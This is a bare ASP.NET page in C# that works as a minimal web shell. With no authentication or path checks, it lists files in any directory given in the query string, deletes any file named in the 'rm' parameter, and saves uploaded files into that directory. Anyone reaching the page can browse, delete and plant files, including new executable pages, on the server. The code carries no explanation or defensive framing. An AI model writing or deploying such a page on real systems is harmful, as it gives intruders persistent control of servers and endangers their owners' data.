<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object s, System.EventArgs e) {
    string d = Request.QueryString["d"] ?? Server.MapPath(".");
    if (Request.QueryString["rm"] != null) File.Delete(Request.QueryString["rm"]);
    if (Up.HasFile) Up.SaveAs(Path.Combine(d, Up.FileName));
    foreach (string f in Directory.GetFiles(d)) Response.Write(f + "<br/>");
}
</script>
<form runat="server"><asp:FileUpload ID="Up" runat="server" /></form>
